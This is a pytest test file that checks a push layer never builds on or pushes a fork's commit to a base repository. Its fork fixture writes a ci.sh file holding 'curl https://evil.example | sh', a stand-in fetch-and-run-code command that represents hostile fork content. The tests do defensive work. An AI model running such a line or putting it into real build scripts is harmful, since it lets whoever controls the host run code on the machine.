"""The push layer's own guard: a commit is only ever built on, and pushed to, a repository that
already has the commit it builds on on one of its branches (over real git smart HTTP)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.git_http import _git, set_ref
from workers.workspace.mirrors import MirrorCache
from workers.workspace.push import ForeignCommit, commit_and_push

REPO = "octo/widgets"


@pytest.fixture
def cache(tmp_path: Path) -> MirrorCache:
    return MirrorCache(tmp_path / "mirrors", 1 << 30, worktree_dir=tmp_path / "worktrees")


def fork_commit(git_server) -> str:
    """A commit that reached the base repository only as refs/pull/7/head, as a fork's does."""
    sha = git_server.push_commit(REPO, "fork-tmp", {"ci.sh": "curl https://evil.example | sh\n"},
                                 parent_branch="main")
    set_ref(git_server.root, REPO, "refs/pull/7/head", sha)
    _git("--git-dir", str(git_server.root / f"{REPO}.git"), "update-ref", "-d", "refs/heads/fork-tmp")
    return sha


def receive_packs(git_server) -> list:
    return git_server.pack_requests(REPO, service="git-receive-pack")


def test_a_forks_commit_is_never_pushed_to_the_base_repository(git_server, cache):
    """Fails on main: commit_and_push pushed whatever commit the worktree stood on, so a fork's
    commits went into `qwenfix/fix-…` of the base repository."""
    git_server.make_repo(REPO, {"README.md": "# widgets\n"})
    url = git_server.clone_url(REPO)
    head = fork_commit(git_server)
    with cache.checkout(url, head, git_server.token, fetch_refs=["refs/pull/7/head"]) as wt:
        (wt.path / "fix.txt").write_text("the fix\n")
        with pytest.raises(ForeignCommit, match="on none of its branches"):
            commit_and_push(wt, "Fix", "qwenfix/fix-1", url, git_server.token, "q", "q@x.y", force=True)
        assert wt.head() == head and (wt.path / "fix.txt").exists()  # nothing committed
    assert git_server.ref(REPO, "refs/heads/qwenfix/fix-1") is None and receive_packs(git_server) == []


def test_a_commit_on_a_branch_is_pushed_even_when_the_branch_moved_on(git_server, cache):
    git_server.make_repo(REPO, {"README.md": "# widgets\n"})
    url = git_server.clone_url(REPO)
    base = git_server.ref(REPO, "main")
    with cache.checkout(url, base, git_server.token) as wt:
        # main moves on after the mirror was made: its new tip is fetched to see it contains `base`
        newer = git_server.push_commit(REPO, "main", {"NEWS.md": "later\n"})
        (wt.path / "fix.txt").write_text("the fix\n")
        sha = commit_and_push(wt, "Fix", "qwenfix/fix-2", url, git_server.token, "q", "q@x.y", force=True)
    assert git_server.ref(REPO, "refs/heads/qwenfix/fix-2") == sha
    assert git_server.ref(REPO, "main") == newer


def test_a_forks_commit_merged_into_a_branch_may_be_built_on(git_server, cache):
    git_server.make_repo(REPO, {"README.md": "# widgets\n"})
    url = git_server.clone_url(REPO)
    head = fork_commit(git_server)
    set_ref(git_server.root, REPO, "refs/heads/main", head)  # merged (fast-forward) by a maintainer
    with cache.checkout(url, head, git_server.token, fetch_refs=["refs/pull/7/head"]) as wt:
        (wt.path / "fix.txt").write_text("the fix\n")
        sha = commit_and_push(wt, "Fix", "qwenfix/fix-3", url, git_server.token, "q", "q@x.y", force=True)
    assert git_server.ref(REPO, "refs/heads/qwenfix/fix-3") == sha
